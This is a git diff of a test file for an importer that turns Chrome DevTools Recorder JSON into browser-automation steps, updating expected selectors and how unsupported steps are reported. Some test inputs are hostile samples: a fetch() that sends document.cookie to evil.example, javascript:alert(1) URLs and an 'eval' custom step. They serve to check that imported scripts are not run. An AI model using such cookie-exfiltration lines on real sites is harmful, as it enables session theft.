@@ -132,19 +132,24 @@ describe('DevTools Recorder JSON', () => {
     const flow = written(whole);
     const bare = { ...flow, steps: flow.steps.filter(({ type }) => type !== 'customStep') };
     const { steps } = fromDevTools(bare);
-    const deeds = steps.map(({ method, arguments: args }) => [method, ...args].join(' '));
-    expect(deeds).toEqual(
+    const deeds = steps.map(({ method, arguments: [first = ''] }) => `${method} ${first}`.trim());
+    const said = deeds.filter((deed) => !deed.startsWith('missing'));
+    expect(said).toEqual(
       [
-        'click, fill Ada, fill Ada, press Control+a, fill Blue, click, click, doubleClick, click, click, hover, fill ',
-        `waitFor visible, navigate ${shopUrl}, wait 250, closeTab`,
-        'fill ada@example.org, waitFor value ada@example.org, fill %pw%, click, click, click, click, click, click, click, click, click',
-        'waitFor hidden, waitFor enabled, waitFor pageText Done, waitFor value Done',
+        'click 8,8, fill Ada, fill Ada, press Control+a, fill Blue, click 8,8, click 8,8, doubleClick 8,8, rightClick 8,8',
+        `longPress 800, hover, fill, waitFor visible, navigate ${shopUrl}, wait 250, closeTab`,
+        'fill ada@example.org, waitFor count, fill %pw%, click 8,8, click 8,8, click 8,8, click 8,8, rightClick 8,8',
+        'click 8,8, click 8,8, click 8,8, click 3,4, waitFor hidden, waitFor count, waitFor pageText, waitFor count',
       ].flatMap((line) => line.split(', ')),
     );
+    expect(deeds.filter((deed) => deed.startsWith('missing'))).toHaveLength(2);
     const first = steps[0]?.target;
     expect(first).toMatchObject({
-      selector: '#buy',
-      alternates: [{ kind: 'role', role: 'button', name: 'Buy' }],
+      selector: 'role="button" |> name="Buy"',
+      alternates: [
+        { kind: 'role', role: 'button', name: 'Buy' },
+        { kind: 'id', selector: '#buy' },
+      ],
     });
     const inTab = steps.findIndex(({ tab }) => tab === 1);
     expect(steps[inTab - 1]?.expectation).toEqual({ kind: 'tab', tab: 1, url: terms });
@@ -175,16 +180,23 @@ describe('DevTools Recorder JSON', () => {
     expect(notes).toEqual(['"Do fill" was changed elsewhere; it is as it is there now.']);
   });
 
-  it('chooses from lists that the Recorder names by role', () => {
-    const change = {
-      type: 'change',
-      selectors: [['aria/Colour[role="combobox"]'], ['#colour']],
-      value: 'Blue',
-    };
-    expect(fromDevTools({ title: 't', steps: [change] }).steps[0]).toMatchObject({
-      method: 'selectOption',
-      target: { selector: '#colour' },
+  it('leaves it to the element what a change of it is, and finds it by the name that the file has', () => {
+    const selectors = [['#colour'], ['aria/Colour[role="combobox"]']];
+    const change = { type: 'change', selectors, value: 'Blue' };
+    const { steps } = fromDevTools({ title: 't', steps: [change] });
+    expect(steps[0]).toMatchObject({
+      method: 'fill',
+      target: {
+        selector: 'role="combobox" |> name="Colour"',
+        alternates: [
+          { kind: 'role', role: 'combobox', name: 'Colour' },
+          { kind: 'id', selector: '#colour' },
+        ],
+      },
     });
+    const again = toDevTools(recordingWith(steps)).text;
+    expect(again).toContain('aria/Colour[role=\\"combobox\\"]');
+    expect(again).toContain('"#colour"');
   });
 
   it('reads ways through shadow hosts, text and pierce selectors', () => {
@@ -197,9 +209,10 @@ describe('DevTools Recorder JSON', () => {
     ];
     const click = { type: 'click', selectors, offsetX: 1, offsetY: 1 };
     expect(fromDevTools({ title: 't', steps: [click] }).steps[0]?.target).toMatchObject({
-      selector: 'x-card >>> button',
+      selector: 'css="*" |> name="Send"',
       alternates: [
         { kind: 'label', text: 'Send' },
+        { kind: 'css', selector: 'x-card >>> button' },
         { kind: 'id', selector: '#send' },
         { kind: 'text', selector: 'text="Send"' },
         { kind: 'xpath', selector: '//button' },
@@ -210,29 +223,38 @@ describe('DevTools Recorder JSON', () => {
   it.each([
     [
       { type: 'waitForExpression', expression: 'fetch("https://evil.example/" + document.cookie)' },
-      'Scripts are not run',
+      'waitForExpression “fetch("https://evil.example/" + document.cookie)”',
     ],
     [
       {
         type: 'waitForExpression',
         expression: 'alert(1)||new Promise(resolve => setTimeout(() => resolve(true), 5))',
       },
-      'Scripts are not run',
+      'waitForExpression “alert(1)||new Promise(resolve => setTimeout(() => resolve(true), 5))”',
     ],
-    [{ type: 'navigate', url: 'javascript:alert(1)' }, 'left out'],
-    [{ type: 'customStep', name: 'evil', parameters: { code: 'x' } }, 'not ours'],
+    [{ type: 'navigate', url: 'javascript:alert(1)' }, 'navigate'],
+    [{ type: 'customStep', name: 'evil', parameters: { code: 'x' } }, 'customStep “evil”'],
     [
       { type: 'customStep', name: 'tabwright.step', parameters: { step: { method: 'eval' }, natives: 0 } },
-      'not ours',
+      'customStep “tabwright.step”',
     ],
-    [{ type: 'explode' }, 'no known kind'],
-    [{ type: 'setViewport', width: 1 }, 'no counterpart'],
-    [{ type: 'click', selectors: [], offsetX: 1, offsetY: 1 }, 'no known kind'],
-    [null, 'no known kind'],
-  ])('leaves out %j and says so', (step, note) => {
-    const { steps, notes } = fromDevTools({ title: 't', steps: [step] });
-    expect(steps).toEqual([]);
-    expect(notes.join(' ')).toContain(note);
+    [{ type: 'explode' }, 'explode'],
+    [{ type: 'click', selectors: [], offsetX: 1, offsetY: 1 }, 'click'],
+    [{ type: 'scroll', x: 30, y: 1 }, 'scroll'],
+    [null, 'A step of no known kind'],
+  ])('has a step that says that %j was left out', (step, what) => {
+    const { steps } = fromDevTools({ title: 't', steps: [step] });
+    expect(steps).toMatchObject([{ method: 'missing', arguments: [what], description: `Left out: ${what}` }]);
+  });
+
+  it('leaves the window and the network as they are, and says so', () => {
+    const steps = [
+      { type: 'setViewport', width: 1 },
+      { type: 'emulateNetworkConditions', latency: 3 },
+    ];
+    const read = fromDevTools({ title: 't', steps });
+    expect(read.steps).toEqual([]);
+    expect(read.notes).toEqual(['The size of the window is left as it is.', 'The network is left as it is.']);
   });
 
   it('refuses what is no recording', () => {
